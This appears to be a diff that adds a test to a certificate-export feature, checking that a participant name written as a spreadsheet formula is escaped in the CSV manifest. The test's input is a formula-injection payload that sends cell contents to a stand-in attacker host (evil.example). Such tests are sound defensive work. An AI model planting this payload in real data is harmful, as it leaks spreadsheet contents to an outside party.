@@ -377,6 +377,17 @@ def test_the_zip_holds_each_valid_certificate_once_with_a_manifest(app, workshop
     assert "PROBLEMS.txt" not in archive.namelist()
 
 
+def test_the_zip_manifest_never_holds_a_live_formula(app, workshop):
+    """A participant who registers as a spreadsheet formula: the organiser's spreadsheet
+    shows the text, it does not run it."""
+    tricky = participant(workshop, 1, name='=HYPERLINK("http://evil.example/?"&A1,"x")')
+    store_certificate(workshop, tricky)
+    entries = verification.archive_entries(workshop, "completion")
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(verification.write_archive(entries))))
+    (row,) = csv.DictReader(io.StringIO(archive.read("certificates.csv").decode("utf-8-sig")))
+    assert row["name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
+
+
 def test_a_damaged_file_is_left_out_and_named(app, workshop):
     good = store_certificate(workshop, participant(workshop, 1))
     bad = store_certificate(workshop, participant(workshop, 2))
